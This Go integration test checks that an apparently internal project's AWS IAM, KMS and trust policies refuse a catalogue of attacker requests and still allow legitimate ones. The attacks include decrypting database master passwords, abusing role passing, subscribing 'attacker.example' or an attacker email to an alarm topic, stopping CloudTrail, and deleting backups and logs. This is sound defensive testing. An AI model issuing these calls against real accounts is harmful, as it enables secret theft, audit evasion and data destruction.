//go:build integration

package platform

// The holes of issue 23, each played as data: who makes the request (the
// deploy role, the app's roles, a role the deploy role creates within a
// boundary, or an AWS service named in a resource or trust policy), and the
// request. Every attack must be refused in both environments; every use
// must stay allowed, so that a fix that refuses everything cannot pass.

import (
	"testing"

	"github.com/pollstack/pollstack/internal/doctor"
)

// who makes a request.
type who int

const (
	deployRole      who = iota
	taskRole            // the running app
	executionRole       // the ECS agent starting a task
	migrateRole         // the migration task
	dbInitRole          // the administrator's one-off database-init task
	workloadRole        // any role created within the workload boundary, allowed everything by its own policy
	serviceRole         // any role created within the service boundary, likewise
	keyPolicy           // an AWS service named in the stack key's policy
	monitoringTrust     // an AWS service assuming the RDS monitoring role
)

// rendered values the requests name.
type named struct {
	dbSecret, serverKey, dbResourceID, dbMaster, topic string
}

func (s *stack) named(t *testing.T) named {
	t.Helper()
	db := s.one(t, "module.stack.module.database.aws_db_instance.this")
	return named{
		dbSecret:     db.Values["master_user_secret"].([]any)[0].(map[string]any)["secret_arn"].(string),
		serverKey:    s.one(t, "module.stack.module.security.aws_secretsmanager_secret.server_key").str("arn"),
		dbResourceID: db.str("resource_id"),
		dbMaster:     db.str("username"),
		topic:        s.one(t, "module.stack.module.monitoring.aws_sns_topic.alarms").str("arn"),
	}
}

type play struct {
	finding int
	by      who
	service string // the service principal, for keyPolicy and monitoringTrust
	name    string
	call    func(s *stack, n named) call
}

const (
	otherKey    = "arn:aws:kms:us-east-1:123456789012:key/99999999-8888-7777-6666-555555555555"
	otherTarget = "arn:aws:application-autoscaling:us-east-1:123456789012:scalable-target/0fedcba987654321"
	otherStack  = "pollstack-payroll"
	viaSecrets  = "secretsmanager." + region + ".amazonaws.com"
	secretARN   = "kms:EncryptionContext:SecretARN"
)

// The requests an attacker makes; each must be refused.
var attacks = []play{
	{1, taskRole, "", "decrypt the master password's secret through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.dbSecret)
	}},
	{1, taskRole, "", "decrypt with the key directly", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, secretARN, n.serverKey)
	}},
	{1, executionRole, "", "decrypt the server key through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.serverKey)
	}},
	{2, workloadRole, "", "read a database cluster's master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", arn("secretsmanager", "secret:rds!cluster-0a1b2c3d-XyZ"),
			"secretsmanager:ResourceTag/aws:rds:primaryDBClusterArn", arn("rds", "cluster:payroll"))
	}},
	{2, workloadRole, "", "decrypt a database cluster's master password through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, arn("secretsmanager", "secret:rds!cluster-0a1b2c3d-XyZ"))
	}},
	{2, serviceRole, "", "read this database's master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.dbSecret)
	}},
	{3, deployRole, "", "run the migration with ECS Exec (a shell beside its database token)", func(s *stack, n named) call {
		return plain("ecs:RunTask", arn("ecs", "task-definition/"+s.name+"-migrate:1"), "ecs:cluster", arn("ecs", "cluster/"+s.name), "ecs:enable-execute-command", "true")
	}},
	// Finding 3: the deploy token runs the migration with overrides, as a
	// revision of its own or with a role it creates or passes; so no role
	// it can pass or make may read the master password.
	{3, executionRole, "", "the agent of a task of its own resolves the master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.dbSecret)
	}},
	{3, executionRole, "", "the agent of a task of its own decrypts the master password through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.dbSecret)
	}},
	{3, migrateRole, "", "the migration reads the master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.dbSecret)
	}},
	{3, migrateRole, "", "the migration connects as the master user", func(s *stack, n named) call {
		return plain("rds-db:connect", arn("rds-db", "dbuser:"+n.dbResourceID+"/"+n.dbMaster))
	}},
	{3, workloadRole, "", "a role of its own reads this database's master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.dbSecret)
	}},
	{3, workloadRole, "", "a role of its own decrypts this database's master password through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.dbSecret)
	}},
	{3, deployRole, "", "pass the database-init role to a task of its own", func(s *stack, n named) call {
		return plain("iam:PassRole", "arn:aws:iam::"+account+":role/"+s.name+"-db-init", "iam:PassedToService", "ecs-tasks.amazonaws.com")
	}},
	{3, deployRole, "", "give the database-init role a policy of its own", func(s *stack, n named) call {
		return bounded(s, "iam:PutRolePolicy", "arn:aws:iam::"+account+":role/"+s.name+"-db-init")
	}},
	{3, deployRole, "", "delete the database-init role, to make one of its own by that name", func(s *stack, n named) call {
		return plain("iam:DeleteRole", "arn:aws:iam::"+account+":role/"+s.name+"-db-init")
	}},
	{3, deployRole, "", "run a database-init task", func(s *stack, n named) call {
		return plain("ecs:RunTask", arn("ecs", "task-definition/"+s.name+"-db-init:1"), "ecs:cluster", arn("ecs", "cluster/"+s.name))
	}},
	{3, deployRole, "", "take the master password out of Secrets Manager to set one of its own", func(s *stack, n named) call {
		return plain("rds:ModifyDBInstance", arn("rds", "db:"+s.name), "rds:ManageMasterUserPassword", "false")
	}},
	{4, workloadRole, "", "connect to another instance as the app user", func(s *stack, n named) call {
		return plain("rds-db:connect", arn("rds-db", "dbuser:db-OTHERDATABASE0000000000000/pollstack_app"))
	}},
	{4, serviceRole, "", "connect to this instance as the app user", func(s *stack, n named) call {
		return plain("rds-db:connect", arn("rds-db", "dbuser:"+n.dbResourceID+"/pollstack_app"))
	}},
	{5, deployRole, "", "decrypt with another key after tagging it as the stack's", func(s *stack, n named) call {
		return s.using("kms:Decrypt", otherKey, "kms:ViaService", "rds."+region+".amazonaws.com")
	}},
	{5, deployRole, "", "untag another key after tagging it as the stack's", func(s *stack, n named) call {
		return s.using("kms:UntagResource", otherKey)
	}},
	{5, deployRole, "", "re-tag another stack's key as this stack's", func(s *stack, n named) call {
		return s.withTags(plain("kms:TagResource", otherKey, "aws:ResourceTag/"+stackTag, otherStack))
	}},
	{5, deployRole, "", "re-tag another stack's scaling target as this stack's", func(s *stack, n named) call {
		return s.withTags(plain("application-autoscaling:TagResource", otherTarget, "aws:ResourceTag/"+stackTag, otherStack))
	}},
	{7, deployRole, "", "give the server key a resource policy that lets it read the key", func(s *stack, n named) call {
		return plain("secretsmanager:PutResourcePolicy", n.serverKey)
	}},
	{7, deployRole, "", "remove the server key's resource policy", func(s *stack, n named) call {
		return plain("secretsmanager:DeleteResourcePolicy", n.serverKey)
	}},
	{7, deployRole, "", "decrypt the server key through Secrets Manager", func(s *stack, n named) call {
		return s.using("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.serverKey)
	}},
	{7, deployRole, "", "decrypt with the stack's key directly", func(s *stack, n named) call {
		return s.using("kms:Decrypt", keyARN)
	}},
	{9, deployRole, "", "send the task events to another account's bus", func(s *stack, n named) call {
		return plain("events:PutTargets", arn("events", "rule/"+s.name+"-task-stopped"), "events:TargetArn", "arn:aws:events:us-east-1:999999999999:event-bus/default")
	}},
	{9, deployRole, "", "subscribe an outside HTTPS endpoint to the alarm topic", func(s *stack, n named) call {
		return plain("sns:Subscribe", n.topic, "sns:Protocol", "https", "sns:Endpoint", "https://attacker.example/hook")
	}},
	{9, deployRole, "", "subscribe another address to the alarm topic", func(s *stack, n named) call {
		return plain("sns:Subscribe", n.topic, "sns:Protocol", "email", "sns:Endpoint", "attacker@example.net")
	}},
	{10, deployRole, "", "stop the account's audit trail (infra/bootstrap)", func(s *stack, n named) call {
		return plain("cloudtrail:StopLogging", arn("cloudtrail", "trail/pollstack-audit"))
	}},
	{10, deployRole, "", "stop recording the state bucket's object events", func(s *stack, n named) call {
		return plain("cloudtrail:PutEventSelectors", arn("cloudtrail", "trail/pollstack-audit"))
	}},
	{10, keyPolicy, "events.amazonaws.com", "another account's rule decrypts with the stack's key", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "aws:SourceAccount", "999999999999")
	}},
	{10, keyPolicy, "logs." + region + ".amazonaws.com", "another account's log group encrypts with the stack's key", func(s *stack, n named) call {
		return plain("kms:GenerateDataKey", keyARN, "aws:SourceAccount", "999999999999",
			"kms:EncryptionContext:aws:logs:arn", arn("logs", "log-group:/ecs/"+s.name+"/app"))
	}},
	{10, monitoringTrust, "monitoring.rds.amazonaws.com", "another account's database assumes the monitoring role", func(s *stack, n named) call {
		return plain("sts:AssumeRole", "arn:aws:iam::"+account+":role/"+s.name+"-rds-monitoring", "aws:SourceAccount", "999999999999")
	}},
}

// The same calls as the stack makes them; each must stay allowed.
var uses = []play{
	{1, taskRole, "", "the app decrypts its server key through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.serverKey)
	}},
	{3, dbInitRole, "", "the administrator's database-init task reads the master password", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.dbSecret)
	}},
	{3, dbInitRole, "", "the administrator's database-init task decrypts the master password through Secrets Manager", func(s *stack, n named) call {
		return plain("kms:Decrypt", keyARN, "kms:ViaService", viaSecrets, secretARN, n.dbSecret)
	}},
	{3, migrateRole, "", "the migration connects as the migrator", func(s *stack, n named) call {
		return plain("rds-db:connect", arn("rds-db", "dbuser:"+n.dbResourceID+"/pollstack_migrator"))
	}},
	{3, deployRole, "", "run the migration on the stack's cluster", func(s *stack, n named) call {
		return plain("ecs:RunTask", arn("ecs", "task-definition/"+s.name+"-migrate:7"), "ecs:cluster", arn("ecs", "cluster/"+s.name))
	}},
	{3, deployRole, "", "pass the migration's role to its task", func(s *stack, n named) call {
		return plain("iam:PassRole", "arn:aws:iam::"+account+":role/"+s.name+"-ecs-migrate", "iam:PassedToService", "ecs-tasks.amazonaws.com")
	}},
	{3, deployRole, "", "change the database's settings with RDS still keeping the password", func(s *stack, n named) call {
		return plain("rds:ModifyDBInstance", arn("rds", "db:"+s.name))
	}},
	{2, workloadRole, "", "read the stack's own server key", func(s *stack, n named) call {
		return plain("secretsmanager:GetSecretValue", n.serverKey)
	}},
	{4, workloadRole, "", "connect to this instance as the app user", func(s *stack, n named) call {
		return plain("rds-db:connect", arn("rds-db", "dbuser:"+n.dbResourceID+"/pollstack_app"))
	}},
	{5, deployRole, "", "RDS encrypts the database with the stack's key", func(s *stack, n named) call {
		return s.using("kms:GenerateDataKey", keyARN, "kms:ViaService", "rds."+region+".amazonaws.com")
	}},
	{7, deployRole, "", "Secrets Manager encrypts the server key's new value", func(s *stack, n named) call {
		return s.using("kms:GenerateDataKey", keyARN, "kms:ViaService", viaSecrets, secretARN, n.serverKey)
	}},
	{9, deployRole, "", "send the task events to the alarm topic", func(s *stack, n named) call {
		return plain("events:PutTargets", arn("events", "rule/"+s.name+"-task-stopped"), "events:TargetArn", n.topic)
	}},
	{9, deployRole, "", "subscribe the on-call address to the alarm topic", func(s *stack, n named) call {
		return plain("sns:Subscribe", n.topic, "sns:Protocol", "email", "sns:Endpoint", "oncall@example.com")
	}},
	{10, keyPolicy, "events.amazonaws.com", "this account's rule publishes to the encrypted topic", func(s *stack, n named) call {
		return plain("kms:GenerateDataKey", keyARN, "aws:SourceAccount", account)
	}},
	{10, monitoringTrust, "monitoring.rds.amazonaws.com", "this account's database assumes the monitoring role", func(s *stack, n named) call {
		return plain("sts:AssumeRole", "arn:aws:iam::"+account+":role/"+s.name+"-rds-monitoring", "aws:SourceAccount", account)
	}},
}

// judge decides a play against an environment's rendered policies; ok is
// false where the environment has no such principal (lean has no
// monitoring role).
func judge(t *testing.T, s *stack, d docs, p play, c call) (dec doctor.Decision, ok bool) {
	t.Helper()
	everything := []doctor.PolicyDocument{parse(t, "everything", `{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)}
	switch p.by {
	case deployRole:
		return decide(t, d.deploy, nil, c), true
	case taskRole:
		return decide(t, d.task, d.boundary, c), true
	case executionRole:
		return decide(t, d.execution, d.boundary, c), true
	case migrateRole:
		return decide(t, d.migrate, d.boundary, c), true
	case dbInitRole:
		return decide(t, d.dbInit, nil, c), true
	case workloadRole:
		return decide(t, everything, d.boundary, c), true
	case serviceRole:
		// Before the service boundary, service roles carried the workload one.
		boundary := d.boundary
		for _, r := range s.all("aws_iam_policy") {
			if r.Address == "module.stack.module.cicd.aws_iam_policy.service_boundary" {
				boundary = []doctor.PolicyDocument{parse(t, "service boundary", r.str("policy"))}
			}
		}
		return decide(t, everything, boundary, c), true
	case keyPolicy:
		key := parse(t, "key policy", s.one(t, "module.stack.module.security.aws_kms_key.this").str("policy"))
		return trusts(t, key, "Service", p.service, c.request()), true
	case monitoringTrust:
		for _, r := range s.all("aws_iam_role") {
			if r.Address == "module.stack.module.database.aws_iam_role.monitoring[0]" {
				return trusts(t, parse(t, "monitoring trust", r.str("assume_role_policy")), "Service", p.service, c.request()), true
			}
		}
		return 0, false
	}
	t.Fatalf("no principal %d", p.by)
	return 0, false
}

func TestAttacksOfIssue23AreRefused(t *testing.T) {
	for _, env := range envs {
		t.Run(env, func(t *testing.T) {
			s := render(t, env)
			d, n := s.docs(t), s.named(t)
			for _, a := range attacks {
				c := a.call(s, n)
				if got, ok := judge(t, s, d, a, c); ok && got == doctor.Allowed {
					t.Errorf("finding %d: %s: allowed: %s", a.finding, a.name, c)
				}
			}
			for _, u := range uses {
				c := u.call(s, n)
				if got, ok := judge(t, s, d, u, c); ok && got != doctor.Allowed {
					t.Errorf("finding %d: %s: %v: %s", u.finding, u.name, got, c)
				}
			}
		})
	}
}

// Finding 8 (security group rules created without the stack's tag) is
// played by TestInvariantDeployRoleCreatesWithTheProvidersTags, which asks
// every resource's create calls with the tags the provider sends.

// With the database deletion-protected (enterprise), the token erases
// neither the data nor its backups (finding 6), nor the stack's record of
// what happened (finding 10).
var protectedAttacks = []play{
	{6, deployRole, "", "delete the database (after turning its protection off)", func(s *stack, n named) call {
		return plain("rds:DeleteDBInstance", arn("rds", "db:"+s.name))
	}},
	{6, deployRole, "", "delete the database's automated backups", func(s *stack, n named) call {
		return plain("rds:DeleteDBInstanceAutomatedBackup", arn("rds", "auto-backup:ab-0a1b2c3d"))
	}},
	{6, deployRole, "", "delete a recovery point of the vault", func(s *stack, n named) call {
		return plain("backup:DeleteRecoveryPoint", arn("backup", "recovery-point:0a1b2c3d"))
	}},
	{6, deployRole, "", "shorten a recovery point's life", func(s *stack, n named) call {
		return plain("backup:UpdateRecoveryPointLifecycle", arn("backup", "recovery-point:0a1b2c3d"))
	}},
	{6, deployRole, "", "take the database out of the backup plan", func(s *stack, n named) call {
		return plain("backup:DeleteBackupSelection", arn("backup", "backup-plan:0a1b2c3d"))
	}},
	{6, deployRole, "", "remove the vault's lock", func(s *stack, n named) call {
		return plain("backup:DeleteBackupVaultLockConfiguration", arn("backup", "backup-vault:"+s.name))
	}},
	{6, deployRole, "", "stop the backups by deleting the backup role", func(s *stack, n named) call {
		return plain("iam:DeleteRole", "arn:aws:iam::"+account+":role/"+s.name+"-backup")
	}},
	{10, deployRole, "", "delete the app's log group", func(s *stack, n named) call {
		return plain("logs:DeleteLogGroup", arn("logs", "log-group:/ecs/"+s.name+"/app"))
	}},
	{10, deployRole, "", "delete the VPC's flow logs", func(s *stack, n named) call {
		return s.using("ec2:DeleteFlowLogs", ec2ARN("vpc-flow-log/fl-0a1b2c3d"))
	}},
}

func TestAttacksCannotEraseAProtectedDatabaseOrItsBackups(t *testing.T) {
	protected := 0
	for _, env := range envs {
		t.Run(env, func(t *testing.T) {
			s := render(t, env)
			db := s.one(t, "module.stack.module.database.aws_db_instance.this")
			if p, _ := db.Values["deletion_protection"].(bool); !p {
				return // lean: a database the pipeline may tear down
			}
			protected++
			d, n := s.docs(t), s.named(t)
			for _, a := range protectedAttacks {
				c := a.call(s, n)
				if got, ok := judge(t, s, d, a, c); ok && got == doctor.Allowed {
					t.Errorf("finding %d: %s: allowed: %s", a.finding, a.name, c)
				}
			}
			// A copy out of the token's reach: the database is selected for
			// a plan whose vault carries a lock.
			locked := map[string]bool{}
			for _, r := range s.all("aws_backup_vault_lock_configuration") {
				if days, _ := r.Values["changeable_for_days"].(float64); days > 0 {
					locked[r.str("backup_vault_name")] = true
				}
			}
			intoLockedVault := map[string]bool{}
			for _, p := range s.all("aws_backup_plan") {
				for _, rule := range p.Values["rule"].([]any) {
					if locked[rule.(map[string]any)["target_vault_name"].(string)] {
						intoLockedVault[p.str("id")] = true
					}
				}
			}
			backedUp := false
			for _, sel := range s.all("aws_backup_selection") {
				backedUp = backedUp || intoLockedVault[sel.str("plan_id")] && contains(strs(sel.Values["resources"]), db.str("arn"))
			}
			if !backedUp {
				t.Errorf("finding 6: %s's database is backed up into no locked vault: a token that deletes it leaves no copy", env)
			}
		})
	}
	if protected == 0 {
		t.Fatal("no environment protects its database: the attacks above were never played")
	}
}
